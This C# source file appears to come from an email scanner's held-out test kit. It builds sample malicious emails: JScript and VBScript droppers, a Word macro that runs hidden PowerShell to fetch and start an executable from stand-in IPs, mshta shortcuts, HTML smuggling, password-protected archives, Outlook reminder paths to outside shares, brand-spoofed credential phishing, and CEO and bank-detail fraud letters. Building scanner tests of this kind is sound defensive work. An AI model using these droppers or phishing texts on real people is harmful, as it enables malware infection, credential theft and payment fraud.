using System.Text;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>A letter of an invented business partner whose attached file runs when it is opened.</summary>
public sealed class LetterWithArmedFile : SixthRound
{
    private const string Script = """
        var sh = new ActiveXObject("WScript.Shell");
        var x = new ActiveXObject("MSXML2.XMLHTTP");
        x.open("GET", "http://198.51.100.23/img/logo.gif", false);
        x.send();
        var s = new ActiveXObject("ADODB.Stream");
        s.Type = 1; s.Open(); s.Write(x.responseBody);
        var p = sh.ExpandEnvironmentStrings("%TEMP%") + "\\svc.exe";
        s.SaveToFile(p, 2); s.Close();
        sh.Run(p, 0, false);
        """;

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Outstanding invoice INV-48213.eml", Carriers.Letter("""
            Received: from mail.harbour-tools.example (unknown [203.0.113.77]) by mx1.kestrel-foods.example with ESMTP; Mon, 23 Nov 2026 08:14:02 +0000
            From: "Accounts Receivable" <billing@harbour-tools.example>
            To: payables@kestrel-foods.example
            Subject: Outstanding invoice INV-48213
            Date: Mon, 23 Nov 2026 08:13:55 +0000
            Message-ID: <20261123081355.48213@harbour-tools.example>
            """, "text/plain", """
            Dear customer,

            please find attached invoice INV-48213, due on 27 November. To avoid late fees kindly
            check the document and transfer the amount today.

            Best regards
            Accounts Receivable
            """, ("INV-48213.zip", "application/zip", InertFiles.Zip(("INV-48213.pdf.js", Dos(Script))))));

        yield return ("Angebotsanfrage.eml", Carriers.Letter("""
            From: =?utf-8?Q?Einkauf_K=C3=B6hler_Anlagenbau?= <einkauf@koehler-anlagen.example>
            Reply-To: koehler.einkauf@freepost.example
            To: vertrieb@pumpen-seitz.example
            Subject: =?utf-8?Q?Angebotsanfrage_PRJ-2026-117_=28dringend=29?=
            Date: Tue, 24 Nov 2026 09:41:10 +0100
            Message-ID: <b7e1@koehler-anlagen.example>
            """, "text/html", """
            <html><body style="font-family:Calibri"><p>Sehr geehrte Damen und Herren,</p>
            <p>anbei erhalten Sie unsere Anfrage mit Zeichnungen. Bitte &ouml;ffnen Sie die Datei per Doppelklick und senden uns Ihr bestes Angebot bis Freitag.</p>
            <p>Mit freundlichen Gr&uuml;&szlig;en<br>Jens K&ouml;hler</p></body></html>
            """, ("Anfrage_PRJ-2026-117.iso", "application/x-iso9660-image", Carriers.Disc("ANFRAGE", [], ("Anfrage_PRJ-2026-117.exe", Carriers.Program())))));

        yield return ("payment advice.msg", new MsgBuilder()
            .Text(0x0037, "Payment advice - Ref 99201")
            .Text(0x0C1A, "Treasury Services")
            .Text(0x0C1F, "treasury@northgate-trust.example")
            .Text(0x0E04, "accounts@millbrook.example")
            .Text(0x1000, "Good day,\r\n\r\nthe payment was made today, see the attached advice for the details. The document is protected: press Enable Content to see it.\r\n\r\nTreasury Services")
            .Attachment("Payment_Advice_99201.docm", OoxmlBuilder.Word("<w:p><w:r><w:t>This document is protected. Click Enable Editing and then Enable Content.</w:t></w:r></w:p>").WithMacros(Project("ThisDocument", """"
                Sub Document_Open()
                    Dim s As String
                    s = "powershell -w hidden -nop -c ""iwr http://192.0.2.44/pa.exe -OutFile $env:TEMP\pa.exe; start $env:TEMP\pa.exe"""
                    CreateObject("WScript.Shell").Run s, 0, False
                End Sub
                """")).Build())
            .Build());

        // The name stands in pieces, the media type says text, the subject is in two encodings.
        yield return ("delivery.eml", Dos($"""
            From: "DHL Express" <no-reply@parcel-desk.test>
            To: undisclosed-recipients:;
            Subject: =?iso-8859-1?B?{Convert.ToBase64String(Encoding.Latin1.GetBytes("Delivery "))}?= =?utf-8?Q?problem_=E2=80=93_AWB_7738?=
            Date: Wed, 25 Nov 2026 02:11:44 -0500
            MIME-Version: 1.0
            Content-Type: multipart/mixed; boundary=a.b_c

            --a.b_c
            Content-Type: text/html; charset=utf-8
            Content-Transfer-Encoding: base64

            {Carriers.Lines(Encoding.UTF8.GetBytes("<p>Your parcel could not be delivered: the address is not complete. Print the attached label and bring it to the nearest office within 48 hours.</p>"))}
            --a.b_c
            Content-Type: text/plain; name*0="AWB_7738_label"; name*1=".pdf.vb"; name*2="s"
            Content-Disposition: inline; filename*0*=utf-8''AWB%5F7738; filename*1*=%5Flabel%2Epdf%2E; filename*2=vbs
            Content-Transfer-Encoding: base64

            {Carriers.Lines(Dos("""
                ' label printer
                Dim q: Set q = CreateObject("Microsoft.XMLHTTP")
                q.Open "GET", "ht" & "tp://203.0.113.9/l/abel.dat", False
                q.Send
                Dim b: Set b = CreateObject("Adodb.Stream")
                b.Type = 1: b.Open: b.Write q.responseBody
                b.SaveToFile CreateObject("Scripting.FileSystemObject").GetSpecialFolder(2) & "\label.exe", 2
                CreateObject("Shell.Application").ShellExecute CreateObject("Scripting.FileSystemObject").GetSpecialFolder(2) & "\label.exe"
                """))}
            --a.b_c--
            """));
    }
}

/// <summary>A letter that tells the password of its encrypted archive, so that only the reader can open it.</summary>
public sealed class LetterThatTellsThePassword : SixthRound
{
    private static readonly byte[] Script = Dos(""""
        Set w = CreateObject("WScript.Shell")
        w.Run "powershell -nop -w hidden -c ""IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.80/a.ps1')""", 0
        """");

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("RE contract.eml", Carriers.Letter("""
            From: "Monica Hale" <m.hale@brightwater-legal.example>
            To: owen@tradewind.example
            Subject: RE: Contract for signature
            In-Reply-To: <7711@tradewind.example>
            Date: Mon, 16 Nov 2026 15:20:00 +0000
            Message-ID: <51100@brightwater-legal.example>
            """, "text/plain", """
            Hello,

            see the attached contract. It is confidential, so the archive is encrypted.

            Archive password: 7742

            Thanks
            Monica
            """, ("contract_1116.zip", "application/zip", Carriers.Packed("contract_1116.zip", "-tzip -p7742", ("contract_1116.vbs", Script)))));

        yield return ("Bewerbung.eml", Carriers.Letter("""
            From: Lena Hartwig <lena.hartwig@postkasten.example>
            To: personal@metallbau-voss.example
            Subject: Bewerbung als Sachbearbeiterin
            Date: Tue, 17 Nov 2026 07:02:31 +0100
            Message-ID: <lh-1@postkasten.example>
            """, "text/html", """
            <p>Sehr geehrte Damen und Herren,</p><p>hiermit bewerbe ich mich auf die ausgeschriebene Stelle. Meine Unterlagen finden Sie im Anhang.
            Aus Datenschutzgr&uuml;nden ist das Archiv gesch&uuml;tzt, das <b>Passwort lautet: Hartwig2026</b></p><p>Mit freundlichen Gr&uuml;&szlig;en<br>Lena Hartwig</p>
            """, ("Bewerbungsunterlagen.7z", "application/x-7z-compressed", Carriers.Packed("b.7z", "-t7z -pHartwig2026", ("Lebenslauf.pdf.exe", Carriers.Program()), ("Foto.jpg", Carriers.Photograph([], []))))));

        yield return ("facture.eml", Carriers.Letter("""
            From: Service Comptabilité <comptabilite@atelier-morel.example>
            To: achats@groupe-vernet.example
            Subject: Facture impayée 2026-0871
            Date: Wed, 18 Nov 2026 10:33:00 +0100
            Message-ID: <0871@atelier-morel.example>
            """, "text/plain", """
            Bonjour,

            Sauf erreur de notre part, la facture 2026-0871 reste impayée à ce jour. Vous la trouverez en pièce jointe.
            Le fichier est protégé, mot de passe : FAC0871

            Cordialement,
            Le service comptabilité
            """, ("Facture_2026-0871.zip", "application/zip", Carriers.Packed("f.zip", "-tzip -mem=AES256 -pFAC0871", ("Facture_2026-0871.iso", Carriers.Disc("FACTURE", [], ("Facture.lnk", new LinkBuilder().To("C:\\Windows\\System32\\cmd.exe").With("/c start /b mshta http://203.0.113.18/f.hta").Build())))))));

        // The names are encrypted, too; the password is told in words and in a sentence of its own.
        yield return ("case file.msg", new MsgBuilder()
            .Text(0x0037, "Case 2214/26 - disclosure")
            .Text(0x0C1A, "Court Office (secure mail)")
            .Text(0x0C1F, "courtoffice@justice-files.test")
            .Text(0x1000, "Dear Sir or Madam,\r\n\r\nthe disclosure bundle in your case is attached. You need the code to unlock it; for safety it is given here in parts: first the word Orchid, directly behind it the number of this case's year (2026), then an exclamation mark: Orchid2026!\r\n\r\nUse a computer, the bundle does not open on telephones.\r\n")
            .Attachment("bundle_2214-26.7z", Carriers.Packed("b.7z", "-t7z -mhe=on -pOrchid2026!", ("bundle_2214-26.js", Dos("new ActiveXObject('WScript.Shell').Run('mshta https://files.justice-files.test/b/2214', 0);"))))
            .Build());
    }
}

/// <summary>A letter in a well-known firm's dress whose button leads to a strange house.</summary>
public sealed class LetterInABrandsDress : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("password expires today.eml", Carriers.Letter("""
            Received: from vps-203-0-113-150.hosting.test ([203.0.113.150]) by mx.kestrel-foods.example; Mon, 23 Nov 2026 06:02:11 +0000
            Authentication-Results: mx.kestrel-foods.example; spf=fail smtp.mailfrom=microsoft.com; dkim=none; dmarc=fail header.from=microsoft.com
            From: "Microsoft 365 Security" <account-security-noreply@microsoft.com>
            Return-Path: <bounce@hosting.test>
            To: dana@kestrel-foods.example
            Subject: Action required: your password expires today
            Date: Mon, 23 Nov 2026 06:02:05 +0000
            """, "text/html", """
            <html><body style="font-family:Segoe UI,Arial"><table width="560" align="center"><tr><td><span style="color:#f25022">&#9632;</span><span style="color:#7fba00">&#9632;</span> <b>Microsoft</b></td></tr>
            <tr><td><h2>Your password expires today</h2><p>The password for <b>dana@kestrel-foods.example</b> expires in 4 hours. After that you will lose access to your mailbox.</p>
            <p><a href="https://office-keep-password.test/login.php?u=ZGFuYUBrZXN0cmVsLWZvb2RzLmV4YW1wbGU=" style="background:#0067b8;color:#fff;padding:10px 20px;text-decoration:none">Keep current password</a></p>
            <p style="color:#777;font-size:11px">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></td></tr></table></body></html>
            """));

        yield return ("Paket.eml", Carriers.Letter("""
            From: "DHL Paket" <sendung@paket-info.test>
            To: kunde@freepost.example
            Subject: Ihr Paket wartet: Zollgebühr 2,99 EUR offen
            Date: Tue, 24 Nov 2026 11:50:40 +0100
            Message-ID: <x1@paket-info.test>
            """, "text/html", """
            <html><body><div style="background:#ffcc00;padding:12px;color:#d40511;font-weight:bold">DHL</div>
            <p>Guten Tag,</p><p>Ihr Paket mit der Sendungsnummer JJD0003400012345 konnte nicht zugestellt werden, da eine Zollgeb&uuml;hr von 2,99&nbsp;EUR nicht bezahlt wurde.</p>
            <p>Bitte bezahlen Sie innerhalb von 24 Stunden, sonst geht das Paket an den Absender zur&uuml;ck.</p>
            <p><a href="http://203.0.113.61/dhl/zahlung/karte.php">https://www.dhl.de/zahlung</a></p></body></html>
            """));

        yield return ("shared a file.eml", Carriers.Letter("""
            From: "Peter Lang via DocuSign" <dse@signing-desk.invalid>
            To: finance@tradewind.example
            Subject: Completed: Remittance_Q4.pdf - please review and sign
            Date: Wed, 25 Nov 2026 16:05:12 +0000
            Message-ID: <ds-88@signing-desk.invalid>
            """, "text/html", """
            <html><body><table width="600"><tr><td bgcolor="#1e4ca1" align="center"><img src="https://signing-desk.invalid/i/docusign.png" alt="DocuSign" width="116"><br>
            <font color="white">Peter Lang sent you a document to review and sign.</font><br><br>
            <a href="https://storage.googleapis.com/rq-doc-7719/review.html#finance@tradewind.example"><font color="#000" style="background:#ffc423">REVIEW DOCUMENT</font></a></td></tr>
            <tr><td><p>Do not share this e-mail: it contains a secure link to DocuSign. Your e-mail password may be needed to confirm your identity.</p></td></tr></table></body></html>
            """));

        // Words cut by joiners that nobody sees, a page of white text about gardening, and an open redirect in front of the address.
        yield return ("voice message.eml", Carriers.Letter("""
            From: =?utf-8?B?VMSXYW1zIFZvaWNlbWFpbA==?= <notify@vm-gateway.test>
            Reply-To: vm.gateway@freepost.example
            To: hr@millbrook.example
            Subject: (1) New V0ice Mess‌age 00:42
            Date: Thu, 26 Nov 2026 09:19:09 +0000
            """, "text/html", Fill("""
            <html><body><p>You have a new vo&#8203;ice mes&#8203;sage in your Mic&#8203;ros&#8203;oft Te&#8203;ams inb&#8203;ox.</p>
            <p>Le&#8203;ngth: 42 se&#8203;conds. It will be del&#8203;eted in 24 ho&#8203;urs.</p>
            <p><a href="https://www.google.com/url?q=https%3A%2F%2Faccounts-verify.vm-gateway.test%2F%3Fe%3Dhr%40millbrook.example&sa=D">Play on teams.microsoft.com</a></p>
            <div style="font-size:1px;color:#ffffff;line-height:1px;max-height:0;overflow:hidden">@@1</div></body></html>
            """, string.Concat(Enumerable.Repeat("In autumn the beds are raked and the roses covered with straw; the water butt is emptied before the first frost. ", 12)))));
    }
}

/// <summary>A letter under a superior's or partner's name that asks for money to go elsewhere.</summary>
public sealed class LetterInAnothersName : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("quick task.eml", Carriers.Letter("""
            From: "Robert Kane (CEO)" <ceo.office.private@freepost.example>
            Reply-To: ceo.office.private@freepost.example
            To: amy.lowell@kestrel-foods.example
            Subject: Quick task
            Date: Mon, 23 Nov 2026 13:01:00 +0000
            X-Mailer: iPhone Mail (22A3354)
            """, "text/plain", """
            Amy, are you at your desk? I am in a meeting and cannot take calls.
            I need you to buy 10 Apple gift cards at 200 USD each for clients. Scratch them and send me
            the codes by e-mail. I will reimburse you today. Keep this between us, it is a surprise.

            Robert Kane
            CEO, Kestrel Foods

            Sent from my iPhone
            """));

        yield return ("new bank details.eml", Carriers.Letter("""
            From: "harbour-tools.example Accounts <billing@harbour-tools.example>" <billing@harbour-too1s.test>
            Reply-To: accounts.harbour@freepost.example
            To: payables@kestrel-foods.example
            Subject: Re: Invoice 48190 - change of bank details
            In-Reply-To: <48190@harbour-tools.example>
            Date: Tue, 24 Nov 2026 08:44:00 +0000
            Authentication-Results: mx.kestrel-foods.example; spf=pass smtp.mailfrom=harbour-too1s.test; dmarc=none
            """, "text/plain", """
            Hello Amy,

            due to an audit our usual account is not able to receive payments at the moment. Please do NOT
            pay invoice 48190 to the old account but use the new bank details from now on:

            Beneficiary: Harbour Tools Ltd
            IBAN: GB00 TEST 0000 0012 3456 78
            Confirm as soon as the wire transfer is on its way, it is urgent.

            > On 20 Nov, Amy Lowell wrote:
            > we will pay the invoice on Tuesday as usual.
            """));

        yield return ("Vertraulich.eml", Carriers.Letter("""
            From: =?utf-8?Q?Dr=2E_Thomas_Br=C3=BCckner_=3Cbrueckner=40seitz-pumpen=2Eexample=3E?= <vorstand.mobil@briefkasten.test>
            To: buchhaltung@seitz-pumpen.example
            Subject: Vertraulich - Firmenübernahme
            Date: Wed, 25 Nov 2026 09:12:00 +0100
            """, "text/plain", """
            Guten Morgen Frau Albers,

            wir stehen vor der Übernahme einer Firma in Übersee. Die Sache ist streng vertraulich, sprechen Sie bitte mit
            niemandem darüber, auch nicht am Telefon. Heute muss noch eine Anzahlung von 187.400 EUR überwiesen werden.
            Antworten Sie mir nur auf diese Adresse, ich sende Ihnen dann die Kontodaten.

            Dr. Thomas Brückner
            Vorstand
            """));

        // A short thread as an Outlook message; the request hides in a quotation, the answer is led to another house.
        yield return ("Fwd payroll.msg", new MsgBuilder()
            .Text(0x0037, "Fwd: Payroll - direct deposit")
            .Text(0x0C1A, "Elena Petrov")
            .Text(0x0C1F, "elena.petrov.home@freepost.example")
            .Text(0x0042, "elena.petrov@millbrook.example")
            .Text(0x007D, "From: \"Elena Petrov elena.petrov@millbrook.example\" <elena.petrov.home@freepost.example>\r\nReply-To: ep.deposit@briefkasten.test\r\nAuthentication-Results: mx.millbrook.example; dmarc=fail header.from=millbrook.example\r\nSubject: Fwd: Payroll - direct deposit\r\n")
            .Text(0x1000, "Hi,\r\n\r\nI have changed banks. Can my new direct deposit details be used for this month's salary already? The old account is closed, so it must be before the run. I cannot be reached by phone this week.\r\n\r\nAccount holder: E. Petrov\r\nRouting 000000000, account 123456789012\r\n\r\nElena")
            .Build());
    }
}

/// <summary>An Outlook item that calls a foreign share or carries another message with the harm in it.</summary>
public sealed class OutlookItemThatCallsOut : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Meeting reminder.msg", new MsgBuilder()
            .Text(0x001A, "IPM.Appointment")
            .Text(0x0037, "Quarterly review")
            .Text(0x0C1A, "Assistant")
            .Text(0x1000, "Reminder")
            .ReminderFile(@"\\203.0.113.12\share\alert.wav")
            .Build());

        yield return ("task overdue.msg", new MsgBuilder()
            .Text(0x001A, "IPM.Task")
            .Text(0x0037, "Aufgabe überfällig")
            .Text(0x1000, "Bitte prüfen.")
            .ReminderFile(@"\\sound.files-node.test@80\dav\ding.wav")
            .Build());

        yield return ("Forwarded.msg", new MsgBuilder()
            .Text(0x0037, "FW: Scan from the copier")
            .Text(0x0C1F, "scan@copier-room.test")
            .Text(0x1000, "See below.")
            .AttachedMessage("Scan", inner => inner
                .Text(0x0037, "Scan from the copier")
                .Text(0x1000, "Document attached.")
                .Attachment("Scan_0023.html", Dos($"""
                    <html><body onload="d()"><script>
                    function d(){"{"}var b=atob("{Convert.ToBase64String(InertFiles.Zip(("Scan_0023.exe", Carriers.Program())))}");var u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);
                    var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([u],{"{"}type:"octet/stream"{"}"}));a.download="Scan_0023.zip";a.click();{"}"}
                    </script>Opening document...</body></html>
                    """)))
            .Build());

        // The share's address is written in the form that the older patch let through.
        yield return ("note.msg", new MsgBuilder()
            .Text(0x001A, "IPM.Note")
            .Text(0x0037, "Re: lunch")
            .Text(0x1000, "12:30 is fine")
            .ReminderFile(@"\\.\UNC\198.51.100.71\a\b.wav")
            .Build());
    }
}
